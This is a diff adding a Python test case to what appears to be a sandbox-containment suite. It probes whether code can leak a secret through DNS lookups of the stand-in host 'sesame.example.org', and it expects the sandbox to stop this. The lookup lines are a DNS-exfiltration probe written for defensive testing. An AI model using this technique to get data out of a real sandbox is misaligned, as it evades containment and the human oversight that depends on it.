@@ -1,0 +1,16 @@
+"""Has the system look up a name: the question itself tells a secret.
+
+Contained: `escaped` stays empty.
+"""
+
+from __future__ import annotations
+
+from ..catalogue import Attack
+
+ATTACK = Attack(
+    code="""
+import socket
+attempt(socket.getaddrinfo, "sesame.example.org", 80)
+attempt(socket.gethostbyname, "sesame.example.org")
+""",
+)
